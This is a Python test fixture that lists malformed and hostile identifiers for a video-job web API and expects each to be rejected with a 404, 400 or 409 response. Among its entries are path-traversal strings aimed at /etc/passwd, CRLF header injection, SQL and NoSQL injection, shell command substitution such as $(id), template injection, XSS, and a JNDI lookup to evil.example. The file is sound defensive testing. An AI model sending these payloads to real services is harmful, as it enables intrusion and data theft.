"""Ids in an address that are nobody's, spelled in every way that leads elsewhere. As they are sent."""

from tests.hostile.bad_inputs.row import Bad

SPELLINGS = (
    "x",
    "%20",
    ".",
    "%2e",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows",
    "%2fetc%2fpasswd",
    "..;%2fadmin",
    "%00",
    "{pending}%00",
    "{pending}%0a",
    "{pending}%0d%0aX-Evil:%201",
    "{pending}%20",
    "{pending}.json",
    "{pending};v=1",
    "{pending}%3fwait=1",
    "{pending}%23x",
    "{pending}{pending}",
    "{PENDING}",
    "%ef%bc%81{short}",
    "%d0%b0{short}",
    "%cc%81{short}",
    "%e2%80%ae{short}",
    "%ff{short}",
    "%ed%a0%80{short}",
    "%c0%ae%c0%ae%c0%af",
    "%252e%252e%252f",
    "a" * 25,
    "a" * 27,
    "a" * 3000,
    "0" * 26,
    "1" * 26,
    "null",
    "undefined",
    "NaN",
    "-1",
    "0",
    "1e9",
    "*",
    "__all__",
    "__proto__",
    "constructor",
    "%7b%7d",
    "[]",
    "%7b%22$ne%22:null%7d",
    "'%20or%20'1'='1",
    "1;drop%20table%20jobs",
    "$(id)",
    "`id`",
    "%7b%7b7*7%7d%7d",
    "$%7bjndi:ldap:%2f%2fevil.example%2fa%7d",
    "%3cscript%3ealert(1)%3c%2fscript%3e",
    "gs:%2f%2fmedia%2fx",
    "accounts%2falice",
    "self",
    "me",
    "latest",
)
"""In the place of a job's id."""

VIDEOS = (
    "x",
    "{finished}",
    "{finished}-",
    "{finished}-0001",
    "{finished}-x",
    "{finished}--1",
    "{finished}-%31%00",
    "{finished}-1-1",
    "{finished}-1%2f..",
    "{finished}-%ef%bc%91",
    "{finished}-9",
)
UPLOADS = ("%2e%2e", "a%2fb", "a%00", "a%0a", "x" * 65, "%ef%bd%81", "a.b", "a%20b", "alice", "%7e")

BAD_PATHS = {
    **{f"job {one[:60]}": Bad(404, "GET", f"/api/jobs/{one}", body=b"") for one in SPELLINGS},
    **{
        f"{method} {path} of {one}": Bad(404, method, path.format(one), body=b"")
        for one in ("x", "..%2fx", "%00", "{pending}%0a", "a" * 300)
        for method, path in (
            ("DELETE", "/api/jobs/{}"),
            ("PATCH", "/api/jobs/{}"),
            ("POST", "/api/jobs/{}/cancel"),
            ("POST", "/api/jobs/{}/retry"),
            ("GET", "/api/jobs/{}/chain"),
            ("GET", "/api/jobs/{}/events"),
            ("POST", "/api/drafts/{}/publish"),
            ("POST", "/api/drafts/{}/unpublish"),
            ("POST", "/api/callbacks/wavespeed/{}"),
        )
    },
    **{f"video {one[:60]}": Bad(404, "GET", f"/api/videos/{one}", body=b"", reads=True) for one in VIDEOS},
    **{f"upload {one[:60]}": Bad(404, "GET", f"/api/uploads/{one}", body=b"", reads=True) for one in UPLOADS},
    **{
        f"ticket {one[:60]}": Bad(404, "GET", f"/api/videos/download/{one}", body=b"", reads=one == "0" * 32)
        for one in (
            "x",
            "%2e%2e",
            "%00",
            "..%2fdownload",
            "F" * 32,
            "0" * 32,
            "0" * 31,
            "0" * 33,
            "0" * 32 + "%0a",
        )
    },
    "a longer address than any": Bad(400, "GET", "/api/jobs/" + "a" * 5000, body=b""),
    "a job that is not there": Bad(404, "GET", "/api/jobs/" + "a" * 26, body=b"", reads=True),
    "a job that was deleted": Bad(404, "GET", "/api/jobs/{deleted}", body=b"", reads=True),
    "the film of a job that was deleted": Bad(404, "GET", "/api/videos/{deleted}-1", body=b"", reads=True),
    "canceling what is at the provider": Bad(
        409, "POST", "/api/jobs/{processing}/cancel", body=b"", reads=True
    ),
    "deleting what is under way": Bad(409, "DELETE", "/api/jobs/{processing}", body=b"", reads=True),
    "retrying what is under way": Bad(409, "POST", "/api/jobs/{processing}/retry", body=b"", reads=True),
    "publishing what has no film": Bad(409, "POST", "/api/drafts/{failed}/publish", body=b"", reads=True),
}
